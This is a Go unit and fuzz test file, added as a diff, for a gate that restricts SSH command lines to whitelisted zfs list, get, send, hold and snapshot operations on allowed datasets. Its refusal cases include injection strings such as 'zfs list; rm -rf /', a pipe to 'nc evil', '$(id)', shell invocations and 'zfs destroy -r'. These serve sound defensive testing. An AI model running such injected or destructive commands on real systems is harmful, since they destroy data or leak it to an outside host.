@@ -1,0 +1,454 @@
+package serve
+
+import (
+	"errors"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/belltech/vault/shellword"
+	"github.com/belltech/vault/zfs"
+	"github.com/stretchr/testify/require"
+)
+
+func testGate(t testing.TB) *Gate {
+	t.Helper()
+	var allow []zfs.Dataset
+	for _, s := range []string{"host05data/jail", "host05data/vm", "tank/my data"} {
+		ds, err := zfs.ParseDataset(s)
+		require.NoError(t, err)
+		allow = append(allow, ds)
+	}
+	return &Gate{Allow: allow, ZFS: "/usr/sbin/zfs"}
+}
+
+const tok = "1-e604ea4bf-e0-789c63a2a0606062a8a2a0a022600000000000000000000000000000000000000000000"
+
+func TestCheckAccepts(t *testing.T) {
+	accepted := []string{
+		// zfs list
+		"zfs list -H -p -o name -t filesystem host05data/jail",
+		"zfs list -H -p -o name,type,guid,createtxg,creation,used,referenced,userrefs,receive_resume_token,encryption,origin,written,logicalreferenced,volsize -t filesystem,volume,snapshot,bookmark -r host05data/jail host05data/vm",
+		"zfs list -H -p -o name,guid,createtxg -t snapshot -r host05data/jail/www",
+		"zfs list -H -p -o name -t volume host05data/vm/disk0 'tank/my data/x'",
+		"/sbin/zfs list -H -p -o name -t filesystem host05data/jail",
+		"/usr/sbin/zfs list -H -p -o name -t filesystem host05data/jail",
+		"/usr/local/sbin/zfs list -H -p -o name -t filesystem host05data/jail",
+		// zfs get
+		"zfs get -H -p -o name,property,value,source encryption,keystatus host05data/jail",
+		"zfs get -H -p -o name,property,value,source vault:job,com.sun:auto-snapshot host05data/jail@2022-04-08_16.49.48--1w",
+		"zfs get -H -p -o name,property,value,source guid 'host05data/jail#mark' host05data/vm",
+		"zfs get -H -p -o name,property,value,source all host05data/jail",
+		// zfs send
+		"zfs send host05data/jail@a",
+		"zfs send -L -c host05data/jail@a",
+		"zfs send -L -c -w host05data/jail@a",
+		"zfs send -L host05data/jail@a",
+		"zfs send -c host05data/jail@a",
+		"zfs send -w host05data/jail@a",
+		"zfs send -L -c -i host05data/jail@a host05data/jail@b",
+		"zfs send -L -c -w -I host05data/jail@a host05data/jail@b",
+		"zfs send -L -c -i 'host05data/jail#a' host05data/jail@b",
+		"zfs send -n -P host05data/jail@a",
+		"zfs send -n -P -L -c -i host05data/jail/www@a host05data/jail/www@b",
+		"zfs send -L -c 'tank/my data/x@2022-04-08_16.49.48--1w'",
+		"zfs send -t " + tok,
+		"zfs send -n -P -t " + tok,
+		// zfs hold, release, holds
+		"zfs hold vault:drive.client host05data/jail@a",
+		"zfs hold vault:drive.client host05data/jail@a host05data/jail/www@b",
+		"zfs release vault:drive.client host05data/jail@a",
+		"zfs release vault:x 'tank/my data@s' host05data/vm@s",
+		"zfs holds -H host05data/jail@a",
+		"zfs holds -H -p host05data/jail@a host05data/vm@b",
+		// zfs snapshot
+		"zfs snapshot host05data/jail@2022-04-08_16.49.48--1w",
+		"zfs snapshot host05data/jail/www@hourly-2022-04-08_16.49.48--2d12h",
+		"zfs snapshot host05data/vm@2022-04-08_16.49.48--forever",
+		"zfs snapshot 'tank/my data@2022-04-08_16.49.48--1m'",
+		"zfs snapshot host05data/jail@2022-04-08_16.49.48--1w host05data/jail/www@2022-04-08_16.49.48--1w host05data/vm@2022-04-08_16.49.48--1w",
+	}
+	g := testGate(t)
+	for _, line := range accepted {
+		argv, err := g.Check(line)
+		if err != nil {
+			t.Errorf("Check(%s): %v", line, err)
+			continue
+		}
+		words, err := shellword.Split(line)
+		require.NoError(t, err)
+		want := append([]string{"/usr/sbin/zfs"}, words[1:]...)
+		if !slices.Equal(argv, want) {
+			t.Errorf("Check(%s) = %q, want %q", line, argv, want)
+		}
+	}
+}
+
+func TestCheckRefuses(t *testing.T) {
+	tests := []struct {
+		line   string
+		reason string // in the error
+	}{
+		// Not a zfs command at all.
+		{"", "interactive login"},
+		{"sh", "program \"sh\" is not zfs"},
+		{"bash -c 'zfs list'", "program \"bash\" is not zfs"},
+		{"/bin/sh -c id", "not zfs"},
+		{"/tmp/zfs list -H -p -o name -t filesystem host05data/jail", "not zfs"},
+		{"zfs.exe list", "not zfs"},
+		{"ZFS list", "not zfs"},
+		{"zfs", "without a subcommand"},
+		{"scp -t /tmp", "not zfs"},
+		{"rsync --server . /", "not zfs"},
+		// Forbidden subcommands.
+		{"zfs destroy host05data/jail@a", `subcommand "destroy" is not allowed`},
+		{"zfs destroy -r host05data/jail", `"destroy" is not allowed`},
+		{"zfs rollback -r host05data/jail@a", `"rollback" is not allowed`},
+		{"zfs rename host05data/jail@a host05data/jail@b", `"rename" is not allowed`},
+		{"zfs receive -F host05data/jail", `"receive" is not allowed`},
+		{"zfs recv host05data/jail", `"recv" is not allowed`},
+		{"zfs set readonly=on host05data/jail", `"set" is not allowed`},
+		{"zfs inherit mountpoint host05data/jail", `"inherit" is not allowed`},
+		{"zfs allow -u evil destroy host05data", `"allow" is not allowed`},
+		{"zfs unallow -u backup host05data", `"unallow" is not allowed`},
+		{"zfs mount host05data/jail", `"mount" is not allowed`},
+		{"zfs unmount host05data/jail", `"unmount" is not allowed`},
+		{"zfs create host05data/jail/x", `"create" is not allowed`},
+		{"zfs clone host05data/jail@a host05data/jail/x", `"clone" is not allowed`},
+		{"zfs promote host05data/jail/x", `"promote" is not allowed`},
+		{"zfs bookmark host05data/jail@a 'host05data/jail#a'", `"bookmark" is not allowed`},
+		{"zfs diff host05data/jail@a", `"diff" is not allowed`},
+		{"zfs load-key host05data/jail", `"load-key" is not allowed`},
+		{"zfs change-key host05data/jail", `"change-key" is not allowed`},
+		{"zfs upgrade -a", `"upgrade" is not allowed`},
+		{"zfs program host05data x.lua", `"program" is not allowed`},
+		{"zfs redact host05data/jail@a x", `"redact" is not allowed`},
+		{"zfs share -a", `"share" is not allowed`},
+		{"zfs userspace host05data/jail", `"userspace" is not allowed`},
+		{"zfs jail 1 host05data/jail", `"jail" is not allowed`},
+		{"zfs -? list", `unquoted '?'`},
+		{"zfs '-?' list", `subcommand "-?" is not allowed`},
+		{"zfs --help", `"--help" is not allowed`},
+		// Shell syntax: Split refuses it.
+		{"zfs list; rm -rf /", `unquoted ';'`},
+		{"zfs list | nc evil 1", `unquoted '|'`},
+		{"zfs list && id", `unquoted '&'`},
+		{"zfs send host05data/jail@a > /tmp/x", `unquoted '>'`},
+		{"zfs receive host05data/jail < /tmp/x", `unquoted '<'`},
+		{"zfs list $(id)", `unquoted '$'`},
+		{"zfs list `id`", "unquoted '`'"},
+		{"zfs list host05data/*", `unquoted '*'`},
+		{"zfs list host05data/jai?", `unquoted '?'`},
+		{"zfs list (x)", `unquoted '('`},
+		{"zfs list ~", `unquoted '~'`},
+		{"zfs list #x", `unquoted '#'`},
+		{`zfs list "host05data/jail"`, "double quote"},
+		{`zfs list host05data\/jail`, "backslash"},
+		{"zfs list 'host05data/jail", "unterminated single quote"},
+		{"zfs  list", "more than one space"},
+		{" zfs list", "leading space"},
+		{"zfs list ", "trailing space"},
+		{"zfs\tlist", `control character '\t'`},
+		{"zfs list\nid", `control character '\n'`},
+		{"zfs list\x00", `control character '\x00'`},
+		{"zfs list\r", `control character '\r'`},
+		{"zfs list '\n'", `control character '\n' in quotes`},
+		{"zfs " + strings.Repeat("x", shellword.MaxLen), "longer than"},
+		// zfs list
+		{"zfs list", "missing, want \"-H\""},
+		{"zfs list host05data/jail", `got "host05data/jail", want "-H"`},
+		{"zfs list -Hp -o name -t filesystem host05data/jail", `got "-Hp", want "-H"`},
+		{"zfs list -p -H -o name -t filesystem host05data/jail", `got "-p", want "-H"`},
+		{"zfs list -H -p -t filesystem -o name host05data/jail", `got "-t", want "-o"`},
+		{"zfs list -H -p -o name -t filesystem -r -d 1 host05data/jail", `"-d"`},
+		{"zfs list -H -p -o name -t filesystem -d 1 host05data/jail", `"-d"`},
+		{"zfs list -H -p -o name -t filesystem -s name host05data/jail", `"-s"`},
+		{"zfs list -H -p -o name -t filesystem -- host05data/jail", `"--"`},
+		{"zfs list -H -p -o name -t filesystem", "missing dataset"},
+		{"zfs list -H -p -o name -t filesystem -r", "missing dataset"},
+		{"zfs list -H -p -o name -t filesystem -r -r host05data/jail", `"-r"`},
+		{"zfs list -H -p -o name,mountpoint -t filesystem host05data/jail", `column "mountpoint" is not allowed`},
+		{"zfs list -H -p -o name,name -t filesystem host05data/jail", `column "name" given twice`},
+		{"zfs list -H -p -o name, -t filesystem host05data/jail", `column "" is not allowed`},
+		{"zfs list -H -p -o '' -t filesystem host05data/jail", `column "" is not allowed`},
+		{"zfs list -H -p -o all -t filesystem host05data/jail", `column "all" is not allowed`},
+		{"zfs list -H -p -o name -t all host05data/jail", `type "all" is not allowed`},
+		{"zfs list -H -p -o name -t snap host05data/jail", `type "snap" is not allowed`},
+		{"zfs list -H -p -o name -t snapshot,snapshot host05data/jail", `type "snapshot" given twice`},
+		{"zfs list -H -p -o name -t filesystem host05data", "not under an allowed root"},
+		{"zfs list -H -p -o name -t filesystem -r host05data", "not under an allowed root"},
+		{"zfs list -H -p -o name -t filesystem host05data/jailbreak", `"host05data/jailbreak" is not under an allowed root`},
+		{"zfs list -H -p -o name -t filesystem host05data/jail host05data/secret", `argument 8: "host05data/secret" is not under an allowed root`},
+		{"zfs list -H -p -o name -t filesystem otherpool/jail", "not under an allowed root"},
+		{"zfs list -H -p -o name -t filesystem host05data/jail/../vm", `".." is not allowed`},
+		{"zfs list -H -p -o name -t filesystem host05data/jail/./x", `"." is not allowed`},
+		{"zfs list -H -p -o name -t filesystem host05data/jail/", "trailing '/'"},
+		{"zfs list -H -p -o name -t filesystem /host05data/jail", "leading '/'"},
+		{"zfs list -H -p -o name -t filesystem host05data//jail", "empty"},
+		{"zfs list -H -p -o name -t filesystem host05data/jail/%recv", "'%'"},
+		{"zfs list -H -p -o name -t filesystem host05data/jail/-x", "starts with '-'"},
+		{"zfs list -H -p -o name -t filesystem -host05data/jail", "'-'"},
+		{"zfs list -H -p -o name -t filesystem host05data/jail@a", "snapshots and bookmarks are not datasets"},
+		{"zfs list -H -p -o name -t filesystem 'host05data/jail/é'", "not ASCII"},
+		// zfs get
+		{"zfs get all host05data/jail", `got "all", want "-H"`},
+		{"zfs get -H -p -o name,value all host05data/jail", `got "name,value", want "name,property,value,source"`},
+		{"zfs get -H -p -o name,property,value,source -s local all host05data/jail", `property "-s"`},
+		{"zfs get -H -p -o name,property,value,source -r all host05data/jail", `property "-r"`},
+		{"zfs get -H -p -o name,property,value,source all", "missing dataset or snapshot"},
+		{"zfs get -H -p -o name,property,value,source 'written@a' host05data/jail", `contains '@'`},
+		{"zfs get -H -p -o name,property,value,source Guid host05data/jail", "does not start with a lowercase letter"},
+		{"zfs get -H -p -o name,property,value,source guid,,type host05data/jail", `property "" is empty`},
+		{"zfs get -H -p -o name,property,value,source 1abc host05data/jail", "does not start with a letter"},
+		{"zfs get -H -p -o name,property,value,source a-b host05data/jail", `contains '-'`},
+		{"zfs get -H -p -o name,property,value,source :x host05data/jail", "does not start with a lowercase letter"},
+		{"zfs get -H -p -o name,property,value,source com.sun:Auto host05data/jail", `contains 'A'`},
+		{"zfs get -H -p -o name,property,value,source " + strings.Repeat("a", 257) + ":b host05data/jail", "longer than 256"},
+		{"zfs get -H -p -o name,property,value,source guid host05data/secret@a", "not under an allowed root"},
+		{"zfs get -H -p -o name,property,value,source guid 'host05data/secret#a'", "not under an allowed root"},
+		// zfs send
+		{"zfs send", "missing snapshot"},
+		{"zfs send host05data/jail", "not a snapshot name"},
+		{"zfs send 'host05data/jail#a'", "not a snapshot name"},
+		{"zfs send -R host05data/jail@a", `option "-R" is not allowed`},
+		{"zfs send -L -c -R host05data/jail@a", `option "-R" is not allowed`},
+		{"zfs send -F host05data/jail@a", `option "-F" is not allowed`},
+		{"zfs send -p host05data/jail@a", `option "-p" is not allowed`},
+		{"zfs send -b host05data/jail@a", `option "-b" is not allowed`},
+		{"zfs send -h host05data/jail@a", `option "-h" is not allowed`},
+		{"zfs send -D host05data/jail@a", `option "-D" is not allowed`},
+		{"zfs send -e host05data/jail@a", `option "-e" is not allowed`},
+		{"zfs send -v host05data/jail@a", `option "-v" is not allowed`},
+		{"zfs send -V host05data/jail@a", `option "-V" is not allowed`},
+		{"zfs send -S host05data/jail", `option "-S" is not allowed`},
+		{"zfs send -X host05data/jail/x -R host05data/jail@a", `option "-X" is not allowed`},
+		{"zfs send --redact book host05data/jail@a", `option "--redact" is not allowed`},
+		{"zfs send -- host05data/jail@a", `option "--" is not allowed`},
+		{"zfs send -Lc host05data/jail@a", `option "-Lc" is not allowed`},
+		{"zfs send -c -L host05data/jail@a", `option "-L" is not allowed`},
+		{"zfs send -w -c host05data/jail@a", `option "-c" is not allowed`},
+		{"zfs send -L -L host05data/jail@a", `option "-L" is not allowed`},
+		{"zfs send -P -n host05data/jail@a", `option "-P" is not allowed`},
+		{"zfs send -n host05data/jail@a", `got "host05data/jail@a", want "-P"`},
+		{"zfs send -nP host05data/jail@a", `option "-nP" is not allowed`},
+		{"zfs send -L -n -P host05data/jail@a", `option "-n" is not allowed`},
+		{"zfs send -i host05data/jail@a -L host05data/jail@b", `option "-L" is not allowed`},
+		{"zfs send -L -c host05data/jail@a -i host05data/jail@b", `unexpected "-i"`},
+		{"zfs send host05data/jail@a host05data/jail@b", `unexpected "host05data/jail@b"`},
+		{"zfs send -i host05data/jail@a", "missing snapshot"},
+		{"zfs send -i", "missing incremental source"},
+		{"zfs send -i @a host05data/jail@b", "no dataset before '@'"},
+		{"zfs send -i a host05data/jail@b", "not a full snapshot or bookmark name"},
+		{"zfs send -i '#a' host05data/jail@b", "no dataset before '#'"},
+		{"zfs send -I 'host05data/jail#a' host05data/jail@b", "of -I is not a full snapshot name"},
+		{"zfs send -i host05data/jail@a -i host05data/jail@b host05data/jail@c", `option "-i" is not allowed`},
+		{"zfs send -i host05data/jail@a -I host05data/jail@b host05data/jail@c", `option "-I" is not allowed`},
+		{"zfs send -i host05data/vm@a host05data/jail@b", "not of the same dataset"},
+		{"zfs send -i host05data/jail/www@a host05data/jail@b", "not of the same dataset"},
+		{"zfs send -i host05data/secret@a host05data/jail@b", `"host05data/secret@a" is not under an allowed root`},
+		{"zfs send host05data/secret@a", "not under an allowed root"},
+		{"zfs send -L -c host05data/jailbreak@a", "not under an allowed root"},
+		{"zfs send host05data/jail/../secret@a", `".." is not allowed`},
+		{"zfs send -t", "missing resume token"},
+		{"zfs send -t " + tok + " host05data/jail@a", `unexpected "host05data/jail@a"`},
+		{"zfs send -L -t " + tok, `option "-t" is not allowed`},
+		{"zfs send -t -L " + tok, `resume token "-L" does not start with a digit`},
+		{"zfs send -t " + strings.ToUpper(tok), `contains 'E'`},
+		{"zfs send -t 1-" + strings.Repeat("a", MaxTokenLen), "more than 8192"},
+		{"zfs send -t x-abc", "does not start with a digit"},
+		{"zfs send -t 1", "does not start with a digit"},
+		{"zfs send -t 1-abc_d", `contains '_'`},
+		{"zfs send -t 'host05data/secret@a'", "does not start with a digit"},
+		// zfs hold, release, holds
+		{"zfs hold", "missing hold tag"},
+		{"zfs hold vault:x", "missing snapshot"},
+		{"zfs hold sanoid_hourly host05data/jail@a", `hold tag "sanoid_hourly" does not start with "vault:"`},
+		{"zfs release sanoid_hourly host05data/jail@a", `does not start with "vault:"`},
+		{"zfs release keep host05data/jail@a", `does not start with "vault:"`},
+		{"zfs release -r vault:x host05data/jail@a", `hold tag "-r" does not start with "vault:"`},
+		{"zfs hold -r vault:x host05data/jail@a", `does not start with "vault:"`},
+		{"zfs hold vault: host05data/jail@a", `has nothing after "vault:"`},
+		{"zfs hold 'vault:a b' host05data/jail@a", `contains ' '`},
+		{"zfs hold 'vault:é' host05data/jail@a", "contains byte 0xc3"},
+		{"zfs hold vault:" + strings.Repeat("x", 250) + " host05data/jail@a", "longer than 255"},
+		{"zfs hold vault:x host05data/jail", "not a snapshot name"},
+		{"zfs hold vault:x host05data/secret@a", "not under an allowed root"},
+		{"zfs release vault:x host05data/jail@a host05data/jailbreak@a", "not under an allowed root"},
+		{"zfs holds host05data/jail@a", `got "host05data/jail@a", want "-H"`},
+		{"zfs holds -H -r host05data/jail@a", `"-r"`},
+		{"zfs holds -Hp host05data/jail@a", `got "-Hp", want "-H"`},
+		{"zfs holds -p -H host05data/jail@a", `got "-p", want "-H"`},
+		{"zfs holds -H", "missing snapshot"},
+		{"zfs holds -H host05data/secret@a", "not under an allowed root"},
+		// zfs snapshot
+		{"zfs snapshot", "missing snapshot"},
+		{"zfs snapshot host05data/jail@manual", `"manual" is not a zfsnap2 name`},
+		{"zfs snapshot host05data/jail@2022-04-08_16.49.48", "not a zfsnap2 name"},
+		{"zfs snapshot host05data/jail@2022-02-30_16.49.48--1w", "not a zfsnap2 name"},
+		{"zfs snapshot host05data/jail@2022-04-08_16.49.48--1q", "not a zfsnap2 name"},
+		{"zfs snapshot -r host05data/jail@2022-04-08_16.49.48--1w", "not a snapshot name"},
+		{"zfs snapshot -o com.sun:x=1 host05data/jail@2022-04-08_16.49.48--1w", "not a snapshot name"},
+		{"zfs snapshot host05data/jail@2022-04-08_16.49.48--1w host05data/vm@manual", `argument 2: snapshot name "manual" is not a zfsnap2 name`},
+		{"zfs snapshot host05data/jail@2022-04-08_16.49.48--1w host05data/secret@2022-04-08_16.49.48--1w", `argument 2: "host05data/secret@2022-04-08_16.49.48--1w" is not under an allowed root`},
+		{"zfs snapshot host05data/jail@2022-04-08_16.49.48--1w -r", `argument 2: invalid snapshot name "-r"`},
+		{"zfs snapshot host05data/secret@2022-04-08_16.49.48--1w", "not under an allowed root"},
+		{"zfs snapshot host05data/jail", "not a snapshot name"},
+		{"zfs snapshot 'host05data/jail@2022-04-08_16.49.48--1w,x'", "invalid character ','"},
+		{"zfs snapshot host05data/jail@%2022-04-08_16.49.48--1w", "contains '%'"},
+		{"zfs snapshot %host05data/jail@2022-04-08_16.49.48--1w", "bare '%'"},
+	}
+	g := testGate(t)
+	for _, tt := range tests {
+		argv, err := g.Check(tt.line)
+		if err == nil {
+			t.Errorf("Check(%q) = %q, want refused", tt.line, argv)
+			continue
+		}
+		var re *RefusedError
+		if !errors.As(err, &re) {
+			t.Errorf("Check(%q): error %v is a %T, want a *RefusedError", tt.line, err, err)
+			continue
+		}
+		if !strings.Contains(re.Reason, tt.reason) {
+			t.Errorf("Check(%q):\n got reason %q\nwant it to contain %q", tt.line, re.Reason, tt.reason)
+		}
+		if strings.ContainsAny(err.Error(), "\n\r") {
+			t.Errorf("Check(%q): the reason %q is more than one line", tt.line, re.Reason)
+		}
+	}
+}
+
+func TestCheckConfig(t *testing.T) {
+	g := &Gate{}
+	_, err := g.Check("zfs list -H -p -o name -t filesystem host05data/jail")
+	require.ErrorContains(t, err, "no dataset is allowed")
+
+	g = testGate(t)
+	g.ZFS = "zfs"
+	_, err = g.Check("zfs list -H -p -o name -t filesystem host05data/jail")
+	require.ErrorContains(t, err, "not an absolute path")
+
+	g = testGate(t)
+	g.ZFS = "/opt/zfs/bin/zfs"
+	argv, err := g.Check("/opt/zfs/bin/zfs holds -H host05data/jail@a")
+	require.NoError(t, err)
+	require.Equal(t, []string{"/opt/zfs/bin/zfs", "holds", "-H", "host05data/jail@a"}, argv)
+
+	g.ZFS = ""
+	argv, err = g.Check("zfs holds -H host05data/jail@a")
+	require.NoError(t, err)
+	require.Equal(t, DefaultZFS, argv[0])
+}
+
+// TestCheckJoined checks that names that need quoting pass through Join
+// and the gate intact.
+func TestCheckJoined(t *testing.T) {
+	g := testGate(t)
+	argv := []string{"zfs", "send", "-L", "-c", "-i", "tank/my data@2022-04-08_16.49.48--1w", "tank/my data@a b"}
+	line, err := shellword.Join(argv)
+	require.NoError(t, err)
+	got, err := g.Check(line)
+	require.NoError(t, err)
+	require.Equal(t, append([]string{"/usr/sbin/zfs"}, argv[1:]...), got)
+}
+
+func FuzzCheck(f *testing.F) {
+	for _, s := range []string{
+		"zfs list -H -p -o name,guid -t filesystem,snapshot -r host05data/jail",
+		"zfs get -H -p -o name,property,value,source vault:job host05data/jail",
+		"zfs send -n -P -L -c -w -I host05data/jail@a host05data/jail@b",
+		"zfs send -L -c -i 'host05data/jail#a' host05data/jail@b",
+		"zfs send -n -P -t " + tok,
+		"zfs hold vault:x host05data/jail@a 'tank/my data@b'",
+		"zfs release vault:x host05data/vm@a",
+		"zfs holds -H -p host05data/jail@a",
+		"zfs snapshot host05data/jail@2022-04-08_16.49.48--1w",
+		"zfs destroy host05data/jail@a",
+		"zfs list -H -p -o name -t filesystem host05data/jailbreak",
+	} {
+		f.Add(s)
+	}
+	g := testGate(f)
+	allowedSubs := []string{"list", "get", "send", "hold", "release", "holds", "snapshot"}
+	f.Fuzz(func(t *testing.T, line string) {
+		argv, err := g.Check(line)
+		if err != nil {
+			var re *RefusedError
+			if !errors.As(err, &re) {
+				t.Fatalf("Check(%q): error %v is a %T, want a *RefusedError", line, err, err)
+			}
+			return
+		}
+		if len(argv) < 3 || argv[0] != g.ZFS || !slices.Contains(allowedSubs, argv[1]) {
+			t.Fatalf("Check(%q) accepted %q", line, argv)
+		}
+		for _, n := range nameArgs(t, argv) {
+			if !nameUnder(g, n) {
+				t.Fatalf("Check(%q) accepted %q: %q is not a name under an allowed root", line, argv, n)
+			}
+		}
+	})
+}
+
+// nameArgs returns the arguments of an accepted argv that name datasets,
+// snapshots or bookmarks, by where each form has them.
+func nameArgs(t *testing.T, argv []string) []string {
+	t.Helper()
+	start := 0
+	switch argv[1] {
+	case "list":
+		start = 8
+		if argv[8] == "-r" {
+			start = 9
+		}
+	case "get":
+		start = 7
+	case "hold", "release":
+		start = 3
+	case "holds":
+		start = 3
+		if argv[3] == "-p" {
+			start = 4
+		}
+	case "snapshot":
+		start = 2
+	case "send":
+		if slices.Contains(argv, "-t") {
+			return nil
+		}
+		var names []string
+		for _, a := range argv[2:] {
+			if !strings.HasPrefix(a, "-") {
+				names = append(names, a)
+			}
+		}
+		return names
+	default:
+		t.Fatalf("accepted subcommand %q", argv[1])
+	}
+	if start >= len(argv) {
+		t.Fatalf("accepted %q with no names", argv)
+	}
+	return argv[start:]
+}
+
+// nameUnder reports whether s is a dataset, snapshot or bookmark under one
+// of g's roots.
+func nameUnder(g *Gate, s string) bool {
+	var ds zfs.Dataset
+	if snap, err := zfs.ParseSnapshot(s); err == nil {
+		ds = snap.Dataset()
+	} else if bm, err := zfs.ParseBookmark(s); err == nil {
+		ds = bm.Dataset()
+	} else if d, err := zfs.ParseDataset(s); err == nil {
+		ds = d
+	} else {
+		return false
+	}
+	for _, r := range g.Allow {
+		if ds.HasPrefix(r) {
+			return true
+		}
+	}
+	return false
+}
